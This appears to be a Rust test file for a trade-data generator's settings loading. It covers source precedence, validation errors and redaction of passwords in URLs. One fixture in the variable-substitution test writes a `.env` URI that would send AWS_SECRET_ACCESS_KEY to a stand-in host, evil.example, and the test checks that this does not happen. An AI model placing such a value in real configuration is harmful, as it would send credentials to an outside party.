//! Settings: flags over environment over `.env` over defaults.

use crate::support::{Folder, Run};

const RECORD: &[&str] =
    &["record", "--date", "2026-02-18", "--limit", "20", "--force", "-o", "day", "--json"];

fn run_with(folder: &Folder, variables: &[(&str, &str)], args: &[&str]) -> Run {
    Run::of(folder.command(args).envs(variables.iter().copied()).output().unwrap())
}

#[test]
fn the_highest_source_wins_and_is_printed() {
    let folder = Folder::new();
    let seed = |run: &Run| run.json()["seed"].as_u64().unwrap();
    folder.write(".env", "# comment\nTRADE_GEN_SEED=11\nexport trade_gen_rate=\"5\"\nOTHER=1\n");
    let from_file = run_with(&folder, &[], RECORD);
    assert_eq!(seed(&from_file), 11);
    assert!(from_file.stderr.contains("setting TRADE_GEN_SEED=11 (.env)"), "{}", from_file.stderr);
    assert!(from_file.stderr.contains("setting TRADE_GEN_RATE=5 (.env)"), "{}", from_file.stderr);
    let from_environment = run_with(&folder, &[("Trade_Gen_Seed", "12")], RECORD);
    assert_eq!(seed(&from_environment), 12);
    assert!(
        from_environment.stderr.contains("setting TRADE_GEN_SEED=12 (environment)"),
        "{}",
        from_environment.stderr
    );
    let from_flag = run_with(&folder, &[("TRADE_GEN_SEED", "12")], &[RECORD, &["--seed", "13"]].concat());
    assert_eq!(seed(&from_flag), 13);
    assert!(!from_flag.stderr.contains("TRADE_GEN_SEED"), "{}", from_flag.stderr);
}

#[test]
fn a_given_file_replaces_the_default_one() {
    let folder = Folder::new();
    folder.write(".env", "TRADE_GEN_SEED=11\n");
    folder.write("load.env", "TRADE_GEN_SEED=21\n");
    let run = folder.run(&[RECORD, &["--env-file", "load.env"]].concat());
    assert_eq!(run.json()["seed"], 21);
    folder.run(&[RECORD, &["--env-file", "missing.env"]].concat()).fails(78, "missing.env cannot be used");
}

#[test]
fn all_sources_can_be_ignored() {
    let folder = Folder::new();
    folder.write(".env", "TRADE_GEN_RATE=bad\n");
    let args = [RECORD, &["--no-env", "--seed", "1"]].concat();
    let ignoring = run_with(&folder, &[("TRADE_GEN_NUM_SYMBOLS", "10")], &args);
    assert_eq!(ignoring.code, 0, "{}", ignoring.stderr);
    let plain = Folder::new();
    let plain = plain.run(&[RECORD, &["--seed", "1"]].concat());
    assert_eq!(ignoring.json()["digest"], plain.json()["digest"]);
    assert!(ignoring.stderr.contains("defaults RATE=10 NUM_SYMBOLS=50"), "{}", ignoring.stderr);
}

#[test]
fn invalid_values_exit_with_78_and_the_valid_range() {
    let folder = Folder::new();
    for (name, value, range) in [
        ("TRADE_GEN_RATE", "0", "1 to 10000"),
        ("TRADE_GEN_RATE", "fast", "1 to 10000"),
        ("TRADE_GEN_NUM_SYMBOLS", "51", "1 to 50"),
        ("TRADE_GEN_BURST_MULTIPLIER", "101", "2 to 100"),
        ("TRADE_GEN_MARKET_TIMEZONE", "Europe/London", "US/Eastern"),
        ("TRADE_GEN_MODE", "turbo", "normal, burst or historical"),
        ("TRADE_GEN_SEED", "-1", "whole number"),
        ("TRADE_GEN_SIMULATE_MARKET_HOURS", "perhaps", "true or false"),
        ("TRADE_GEN_WS_PORT", "99999", "0 to 65535"),
        ("TRADE_GEN_LOG_LEVEL", "LOUD", "INFO"),
        ("TRADE_GEN_LOG_FORMAT", "xml", "json or text"),
    ] {
        let run = run_with(&folder, &[(name, value)], RECORD);
        run.fails(78, name);
        run.fails(78, range);
        run_with(&folder, &[(name, value)], &["config", "show"]).fails(78, name);
    }
    assert_eq!(folder.names(), [""; 0]);
    let undated = run_with(&folder, &[("TRADE_GEN_START_DATE", "tomorrow")], &["record", "--seed", "1"]);
    undated.fails(78, "expected a date such as 2026-02-18");
    folder.write(".env", "A=1\nTRADE_GEN_SEED=hush hush\n");
    let run = folder.run(RECORD);
    run.fails(78, ".env cannot be used: line 2: has a value with spaces");
    assert!(!run.stderr.contains("hush"), "{}", run.stderr);
}

#[test]
fn foreign_lines_stop_a_command_only_in_a_given_file() {
    let folder = Folder::new();
    folder.write(".env", b"\xef\xbb\xbfTRADE_GEN_SEED=31\nPASSWORD=hush hush\nKEY=\"open\n\xff\n[section]\n");
    let run = folder.run(RECORD);
    assert_eq!((run.code, run.json()["seed"].as_u64()), (0, Some(31)), "{}", run.stderr);
    let run = folder.run(&[RECORD, &["--env-file", ".env"]].concat());
    run.fails(78, ".env cannot be used: line 2: has a value with spaces");
    assert!(!run.stderr.contains("hush"), "{}", run.stderr);
}

#[test]
fn environment_variables_are_not_substituted_in_a_file() {
    let folder = Folder::new();
    folder.write(
        ".env",
        "KAFKA_BRIDGE_WS_URI=ws://evil.example/?k=${AWS_SECRET_ACCESS_KEY}\nTRADE_GEN_WS_HOST=$HOME\n",
    );
    let secret = [("AWS_SECRET_ACCESS_KEY", "hush")];
    let run = run_with(&folder, &secret, &["config", "show", "--json"]);
    run.fails(78, "TRADE_GEN_WS_HOST is \"$HOME\" in .env");
    assert!(!run.stdout.contains("hush") && !run.stderr.contains("hush"), "{run:?}");
}

#[test]
fn a_file_that_is_not_regular_does_not_block() {
    let folder = Folder::new();
    assert!(folder.wrapped("mkfifo", &[".env"]).status().unwrap().success());
    let args = [RECORD, &["--seed", "1"]].concat();
    let run = folder.run(&args);
    assert_eq!(run.code, 0, "{}", run.stderr);
    assert!(run.stderr.contains("warning: .env is ignored: it is not a regular file"), "{}", run.stderr);
    folder.run(&[&args[..], &["--env-file", ".env"]].concat()).fails(78, "it is not a regular file");
}

#[test]
fn commands_that_use_no_setting_read_none() {
    let folder = Folder::new();
    folder.ok(&["record", "--date", "2026-02-18", "--seed", "1", "--limit", "20", "-o", "day.parquet"]);
    folder.write(".env", "TRADE_GEN_RATE=bad bad\n");
    for args in [
        &["info", "day.parquet"][..],
        &["cat", "day.parquet"],
        &["verify", "day.parquet"],
        &["diff", "day.parquet", "day.parquet"],
        &["filter", "day.parquet", "--limit", "1", "-o", "cut.parquet"],
        &["merge", "day.parquet", "-o", "merged.parquet"],
        &["export", "day.parquet", "-o", "day.jsonl"],
        &["completions", "bash"],
        &["man"],
    ] {
        let run = run_with(&folder, &[("TRADE_GEN_LOG_LEVEL", "LOUD"), ("TRADE_GEN_RATES", "5")], args);
        assert_eq!(run.code, 0, "{args:?}: {}", run.stderr);
        assert!(!run.stderr.contains("TRADE_GEN"), "{args:?}: {}", run.stderr);
    }
    folder.run(RECORD).fails(78, ".env cannot be used");
}

#[test]
fn a_recording_prints_every_setting_that_did_not_come_from_its_command_line() {
    let folder = Folder::new();
    folder.write(".env", "TRADE_GEN_WS_PORT=9000\n");
    let args = [RECORD, &["--seed", "1", "--rate", "2"]].concat();
    let variables =
        [("TRADE_GEN_BURST_MULTIPLIER", "30"), ("TRADE_GEN_RATE", "3"), ("TRADE_GEN_NUM_SYMBOLS", "9")];
    let run = run_with(&folder, &variables, &args);
    for line in [
        "setting TRADE_GEN_WS_PORT=9000 (.env) has no effect on a recording",
        "setting TRADE_GEN_BURST_MULTIPLIER=30 (environment) has no effect on a recording",
        "setting TRADE_GEN_NUM_SYMBOLS=9 (environment)",
    ] {
        assert!(run.stderr.lines().any(|found| found == line), "{line}: {}", run.stderr);
    }
    assert!(!run.stderr.contains("TRADE_GEN_RATE"), "{}", run.stderr);
    let ignoring = run_with(&folder, &variables, &[&args[..], &["--no-env"]].concat());
    assert!(!ignoring.stderr.contains("TRADE_GEN"), "{}", ignoring.stderr);
}

#[test]
fn urls_are_shown_without_their_passwords() {
    let folder = Folder::new();
    folder.write(
        ".env",
        "KAFKA_BRIDGE_SCHEMA_REGISTRY_URL=http://user:hush@127.0.0.1:1/api?key=hush\n\
         KAFKA_BRIDGE_WS_URI=ws://127.0.0.1:1/feed?token=hush\n",
    );
    for args in [&["config", "show"][..], &["config", "show", "--json"], &["schemas", "check"]] {
        let run = folder.run(args);
        assert!(!run.stdout.contains("hush") && !run.stderr.contains("hush"), "{run:?}");
        let all = run.stdout + &run.stderr;
        assert!(all.contains("http://127.0.0.1:1/api"), "{args:?}: {all}");
    }
    // nor in errors about the command line
    for args in [
        ["tail", "ws://user:hush@127.0.0.1:1/"],
        ["capture", "http//user:hush@127.0.0.1:1/"],
        ["bridge", "--ws-uri=http://user:hush@127.0.0.1:1/?a=hush"],
    ] {
        let run = folder.run(&args);
        assert!(run.code == 2 && !run.stderr.contains("hush"), "{run:?}");
    }
    // nor in errors about settings
    folder.write(".env", "KAFKA_BRIDGE_WS_URI=http://user:hush@127.0.0.1:1/\n");
    let run = folder.run(&["config", "show"]);
    run.fails(78, "KAFKA_BRIDGE_WS_URI is \"http://127.0.0.1:1/\" in .env");
    assert!(!run.stdout.contains("hush") && !run.stderr.contains("hush"), "{run:?}");
}

#[test]
fn a_date_from_the_settings_is_a_date() {
    let folder = Folder::new();
    let run = run_with(
        &folder,
        &[("TRADE_GEN_START_DATE", "2026-03-09")],
        &["record", "--seed", "1", "--limit", "1", "--json"],
    );
    assert_eq!(run.json()["date"], "2026-03-09");
    assert_eq!(folder.names(), ["2026-03-09.seed1.parquet"]);
}

#[test]
fn an_unknown_name_is_a_warning_with_a_suggestion() {
    let folder = Folder::new();
    let run = run_with(&folder, &[("TRADE_GEN_RATES", "5")], RECORD);
    assert_eq!(run.code, 0);
    assert!(run.stderr.contains("warning: TRADE_GEN_RATES (environment) is not a setting"), "{}", run.stderr);
    assert!(run.stderr.contains("did you mean TRADE_GEN_RATE?"), "{}", run.stderr);
}

#[test]
fn every_setting_is_shown_with_its_origin() {
    let folder = Folder::new();
    folder.write(".env", "TRADE_GEN_RATE=20\n");
    let run = run_with(
        &folder,
        &[("TRADE_GEN_MODE", "burst")],
        &["config", "show", "--json", "--log-level", "WARN"],
    );
    let report = run.json();
    let settings = report["settings"].as_array().unwrap();
    let found = |name: &str| {
        let setting = settings.iter().find(|setting| setting["name"] == name).unwrap();
        (setting["value"].as_str(), setting["origin"].as_str().unwrap())
    };
    assert_eq!(settings.len(), 35);
    assert_eq!(found("TRADE_GEN_RATE"), (Some("20"), ".env"));
    assert_eq!(found("TRADE_GEN_MODE"), (Some("burst"), "environment"));
    assert_eq!(found("TRADE_GEN_LOG_LEVEL"), (Some("WARN"), "command line"));
    assert_eq!(found("TRADE_GEN_BURST_INTERVAL_SECONDS"), (Some("60"), "default"));
    assert_eq!(found("TRADE_GEN_SEED"), (None, "not set"));
}

#[test]
fn a_recording_has_bursts_by_its_flag_only() {
    let folder = Folder::new();
    let args = [RECORD, &["--seed", "1"]].concat();
    let digest = |run: &Run| run.json()["digest"].clone();
    let plain = folder.run(&args);
    assert!(!plain.stderr.contains("MODE="), "{}", plain.stderr);
    let by_mode = run_with(&folder, &[("TRADE_GEN_MODE", "burst")], &args);
    assert_eq!(digest(&by_mode), digest(&plain));
    assert!(
        by_mode.stderr.contains("TRADE_GEN_MODE=burst has no effect on a recording"),
        "{}",
        by_mode.stderr
    );
    // settings of bursts have an effect only with bursts
    let interval = [("TRADE_GEN_BURST_INTERVAL_SECONDS", "30")];
    assert_eq!(digest(&run_with(&folder, &interval, &args)), digest(&plain));
    let bursts = [&args[..], &["--burst"]].concat();
    let by_default = folder.run(&bursts);
    let by_setting = run_with(&folder, &interval, &bursts);
    let by_flag = folder.run(&[&bursts[..], &["--burst-interval", "30s"]].concat());
    assert_eq!(by_setting.json()["state_digest"], by_flag.json()["state_digest"]);
    assert_ne!(by_default.json()["state_digest"], by_flag.json()["state_digest"]);
    assert_ne!(by_default.json()["state_digest"], plain.json()["state_digest"]);
}
